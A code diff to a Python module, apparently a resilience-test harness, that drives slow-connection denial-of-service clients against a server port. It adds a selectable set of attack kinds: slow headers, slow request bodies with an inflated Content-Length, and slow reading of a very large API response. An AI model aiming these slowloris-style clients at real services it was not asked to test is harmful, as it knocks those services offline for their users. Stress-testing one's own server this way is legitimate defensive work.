@@ -6,6 +6,7 @@ from collections.abc import Callable
 from dataclasses import dataclass
 from multiprocessing.synchronize import Event
 
+KINDS = ("entetes", "corps", "lecteurs")
 _BEAT_S = 1.0
 _LONG = "/collections/indicateurs-commune-serie/items?limit=10000"  # more than all buffers hold
 _SMALL = 4_096  # octets that the attacker's own kernel takes ahead
@@ -13,11 +14,12 @@ _SMALL = 4_096  # octets that the attacker's own kernel takes ahead
 
 @dataclass(frozen=True)
 class Target:
-    """Which port, by how many, with whose keys for what is asked behind the gate."""
+    """Which port, by how many, in which ways, with whose keys for what is asked behind the gate."""
 
     port: int
     clients: int
     keys: tuple[str, ...]
+    kinds: tuple[str, ...]  # of KINDS
 
 
 @dataclass
@@ -57,7 +59,7 @@ class _Slow:
 
 
 def attack(target: Target, over: Event) -> None:
-    """A third of the clients for each attack, until it is over."""
+    """As many clients for each kind of attack, until it is over."""
     clients = [_client(target, n) for n in range(target.clients)]
     while not over.is_set():
         begun = time.monotonic()
@@ -75,11 +77,9 @@ def _client(target: Target, n: int) -> _Slow:
         f"POST /processes/echo/execution HTTP/1.1\r\nHost: x\r\n{key}Content-Length: 9000\r\n\r\n"
     )
     long = f"GET {_LONG} HTTP/1.1\r\nHost: x\r\n{key}\r\n"
-    opening, drip = (
-        (head, _send),
-        (body, _send),
-        (long, _take),
-    )[n % 3]
+    opening, drip = {"entetes": (head, _send), "corps": (body, _send), "lecteurs": (long, _take)}[
+        target.kinds[n % len(target.kinds)]
+    ]
     return _Slow(target.port, opening.encode(), drip)
 
 
